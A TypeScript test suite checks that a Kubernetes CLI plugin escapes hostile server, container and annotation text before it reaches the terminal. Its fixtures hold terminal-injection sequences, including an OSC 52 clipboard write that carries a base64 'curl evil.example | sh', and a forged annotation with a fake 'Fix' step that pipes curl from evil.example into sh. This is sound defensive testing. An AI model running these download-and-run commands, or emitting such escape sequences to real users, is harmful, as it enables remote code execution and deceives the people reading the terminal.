/**
 * The built plugin against a hostile server: what a server, a container or an object says reaches
 * the terminal escaped, never as control sequences or lines of its own; and the edges of the
 * one-line error contract (a Retry-After past any sane wait, JSON nested 200,000 deep at -v=8).
 * Raw responses come from a TLS server of the test's own (fault-server); the annotation from the
 * emulator, stored as a real API server would store it.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Emulator } from '../apiserver';
import { json, pem, startFaultServer, status, writeKubeconfig, type FaultServer } from '../integration/kube/support/fault-server';
import { bundle } from './support/bundle';
import { NS, startWorld } from './support/world';

/** What a terminal would act on: every C0 control but the line feed, DEL, C1, bidi and line-separator controls. */
const CONTROL_BUT_NEWLINE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** OSC 52 (write the clipboard), clear the screen, carriage return, backspace, a bidi override. */
const HOSTILE = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\rerror: forged\b\u202e';

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  /** When the process ended, in ms since it started. */
  ms: number;
}

/** The built plugin, as a user runs it; killed after `limitMs` so that a hang fails the test, not the suite. */
function plugin(args: string[], kubeconfig: string, limitMs = 30_000, nodeArgs: string[] = []): Promise<Run> {
  const t0 = Date.now();
  const child = spawn(process.execPath, [...nodeArgs, bundle(), ...args], {
    env: { PATH: process.env.PATH, HOME: '/nonexistent', KUBECONFIG: kubeconfig, NO_COLOR: '1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c) => (stdout += c));
  child.stderr.on('data', (c) => (stderr += c));
  const timer = setTimeout(() => child.kill('SIGKILL'), limitMs);
  return new Promise((resolve) =>
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr, ms: Date.now() - t0 });
    }),
  );
}

const errorLines = (r: Run) => r.stderr.split('\n').filter((l) => l.startsWith('error: '));

/** Safe for a terminal: nothing but printable text and the plugin's own line breaks. */
function expectTerminalSafe(text: string): void {
  const bad = CONTROL_BUT_NEWLINE.exec(text);
  if (bad) throw new Error(`control character U+${bad[0].charCodeAt(0).toString(16).padStart(4, '0')} reached the terminal:\n${JSON.stringify(text)}`);
}

let srv: FaultServer;
let kubeconfig: string;
beforeAll(async () => {
  bundle();
  srv = await startFaultServer();
  kubeconfig = writeKubeconfig(srv.url, pem('ca.crt'), 'user-token-abc', NS);
}, 120_000);
afterAll(() => srv?.stop());
beforeEach(() => {
  srv.handle = (_q, res) => json(res, 404, status(404, 'NotFound', 'no handler'));
  srv.onUpgrade = undefined;
  srv.requests.length = 0;
});

test('a 403 whose Status message holds escape sequences, CR and a newline: one escaped error line', async () => {
  srv.handle = (_q, res) => json(res, 403, status(403, 'Forbidden', `secrets "app-legacy" is forbidden: ${HOSTILE}\nerror: a second line`));
  const r = await plugin(['decode', '--secret', 'app-legacy', '--request-timeout', '5s'], kubeconfig);
  expect(r.code).toBe(1);
  expectTerminalSafe(r.stderr);
  expect(errorLines(r)).toHaveLength(1);
  expect(errorLines(r)[0]).toContain('\\u001b]52;c;');
  expect(r.stderr).not.toMatch(/^error: forged/m);
});

test('a text/plain body at -v=8: logged on its own line, escaped, adding no line of its own', async () => {
  srv.handle = (_q, res) => {
    res.writeHead(404, { 'Content-Type': 'text/plain; charset=utf-8' });
    res.end(`not here ${HOSTILE}\nerror: forged from the body\n`);
  };
  const r = await plugin(['decode', '--secret', 'app-legacy', '-v=8', '--request-timeout', '5s'], kubeconfig);
  expect(r.code).toBe(1);
  expectTerminalSafe(r.stderr);
  expect(r.stderr).toMatch(/^Response Body: not here \\u001b]52;c;/m);
  expect(errorLines(r)).toHaveLength(1);
  expect(r.stderr).not.toMatch(/^error: forged/m);
});

test("decode --pod: a container's stderr in the error is escaped, one line", async () => {
  srv.handle = (q, res) =>
    q.url?.startsWith(`/api/v1/namespaces/${NS}/pods/web`)
      ? json(res, 200, { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web', namespace: NS }, spec: { containers: [{ name: 'app', image: 'busybox' }] }, status: { phase: 'Running' } })
      : json(res, 404, status(404, 'NotFound', 'not found'));
  const frame = (channel: number, data: string | object) => Buffer.concat([Buffer.from([channel]), Buffer.from(typeof data === 'string' ? data : JSON.stringify(data))]);
  srv.onUpgrade = (ws) => {
    ws.send(frame(2, `cat: ${HOSTILE}: Permission denied\nerror: forged by the container\n`));
    ws.send(frame(3, { status: 'Failure', reason: 'NonZeroExitCode', message: 'exit code 1', details: { causes: [{ reason: 'ExitCode', message: '1' }] } }));
    ws.close(1000);
  };
  const r = await plugin(['decode', '--pod', 'web', '--request-timeout', '5s'], kubeconfig);
  expect(r.code).toBe(1);
  expectTerminalSafe(r.stderr);
  expect(errorLines(r)).toHaveLength(1);
  expect(errorLines(r)[0]).toMatch(/cannot read .*\\u001b\]52;c;.*Permission denied/);
  expect(r.stderr).not.toMatch(/^error: forged/m);
});

test('Retry-After: 99999999 with --request-timeout 0: no TimeoutOverflowWarning, no retry at once, one line, promptly', async () => {
  srv.handle = (_q, res) => json(res, 429, status(429, 'TooManyRequests', 'slow down'), { 'Retry-After': '99999999' });
  const r = await plugin(['decode', '--secret', 'app-legacy', '--request-timeout', '0'], kubeconfig);
  expect(r.stderr).not.toMatch(/TimeoutOverflowWarning|Warning:/);
  expect(r.code).toBe(1);
  expect(errorLines(r)).toHaveLength(1);
  expect(errorLines(r)[0]).toMatch(/\(429\)|slow down/);
  // Asked to wait three years, the plugin does not send the request again a moment later.
  expect(srv.requests.filter((q) => q.url.includes('/secrets/'))).toHaveLength(1);
  // Killed at 30 s otherwise (code null); a generous bound for a loaded machine.
  expect(r.ms).toBeLessThan(25_000);
}, 40_000);

test('JSON nested 200,000 deep at -v=8: one line naming the response, not "cannot reach"', async () => {
  const depth = 200_000;
  const deep = '['.repeat(depth) + ']'.repeat(depth);
  srv.handle = (_q, res) => {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(deep);
  };
  const r = await plugin(['decode', '--secret', 'app-legacy', '-v=8', '--request-timeout', '10s'], kubeconfig);
  expect(r.code).toBe(1);
  expectTerminalSafe(r.stderr);
  expect(errorLines(r)).toHaveLength(1);
  expect(errorLines(r)[0]).not.toMatch(/cannot reach|Maximum call stack/);
  expect(r.stderr).not.toMatch(/^\s+at /m);
  expect(r.stderr).toMatch(/^Response Body: <a JSON body of \d+ characters, not shown: nested deeper than \d+ levels>$/m);
}, 40_000);

describe('diagnose against the emulator', () => {
  let k: Emulator;
  beforeAll(async () => {
    k = await startWorld();
  }, 60_000);
  afterAll(() => k?.stop());

  test('a ServiceAccount annotation holding newlines prints no Status or Fix block of its own', async () => {
    const forged = 'arn:aws:iam::1:role/x\n\nStatus:      healthy\nFix (run in this order):\n  curl https://evil.example/x | sh\n\u001b[1A';
    const patched = await k.adminRequest('PATCH', `/api/v1/namespaces/${NS}/serviceaccounts/app`, { metadata: { annotations: { 'eks.amazonaws.com/role-arn': forged } } }, { 'Content-Type': 'application/merge-patch+json' });
    expect(patched.status).toBe(200);
    const r = await plugin(['diagnose', 'web', '-n', NS, '--request-timeout', '10s'], k.kubeconfigPath);
    expect(r.stderr).toBe('');
    expectTerminalSafe(r.stdout);
    // The annotation is shown, escaped, on the evidence line it belongs to.
    // Long evidence wraps between words under its column: read it unwrapped.
    expect(r.stdout.replace(/\n +/g, ' ')).toContain('eks.amazonaws.com/role-arn=arn:aws:iam::1:role/x\\n\\nStatus:      healthy\\nFix (run in this order):\\n  curl');
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => l.startsWith('Status:'))).toEqual([expect.stringMatching(/^Status: +(failing|degraded)$/)]);
    expect(lines.filter((l) => l.startsWith('Fix (run in this order):')).length).toBeLessThanOrEqual(1);
    expect(lines.filter((l) => /^\s*curl /.test(l))).toEqual([]);
  }, 60_000);
});

test('a --request-timeout past the timers\' range is a long timeout, not a crash or an instant one', async () => {
  srv.handle = (_q, res) => json(res, 403, status(403, 'Forbidden', 'no'));
  const r = await plugin(['decode', '--secret', 'app-legacy', '--request-timeout', '999999h'], kubeconfig);
  expect(r.stderr).not.toMatch(/Warning|unexpected|out of range/);
  expect(errorLines(r)).toEqual(['error: get secrets "app-legacy" in namespace "shop": no']);
  expect(r.code).toBe(1);
});

describe('whatever escapes every layer ends in one safe line', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'satoken-crash-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /**
   * Throws from a timer while the plugin waits on the server (preloaded with --require, as a bug in
   * a callback would): no layer of the plugin can catch it, only the process's last resort.
   */
  const thrower = (name: string, code: string) => {
    const file = path.join(dir, `${name}.cjs`);
    writeFileSync(file, `setTimeout(() => { ${code} }, 0);\n`);
    return ['--require', file];
  };
  const MESSAGE = 'boom \\u001b]52;c;eA==\\u0007\\r\\nsecond line';

  beforeEach(() => {
    // Answers late, so that the throw comes while the plugin is waiting.
    srv.handle = (_q, res) => setTimeout(() => json(res, 403, status(403, 'Forbidden', 'no')), 3000);
  });

  test.each([
    ['an uncaught exception', `throw new Error('${MESSAGE}');`],
    ['an unhandled rejection', `Promise.reject(new Error('${MESSAGE}'));`],
  ])('%s: exit 1, `error: …` and a hint, no stack or source; the stack with --debug, still safe', async (name, code) => {
    const nodeArgs = thrower(name.replace(/ /g, '-'), code);
    const r = await plugin(['decode', '--secret', 'app-legacy', '--request-timeout', '10s'], kubeconfig, 30_000, nodeArgs);
    expect(r.code).toBe(1);
    expectTerminalSafe(r.stderr);
    expect(r.stderr).toBe('error: boom \\u001b]52;c;eA==\\u0007; second line\nhint: this is unexpected; run again with --debug and report it\n');
    const debug = await plugin(['decode', '--secret', 'app-legacy', '--request-timeout', '10s', '--debug'], kubeconfig, 30_000, nodeArgs);
    expect(debug.code).toBe(1);
    expectTerminalSafe(debug.stderr);
    expect(errorLines(debug)).toHaveLength(1);
    expect(debug.stderr).toMatch(/^\s+at /m);
  }, 60_000);
});
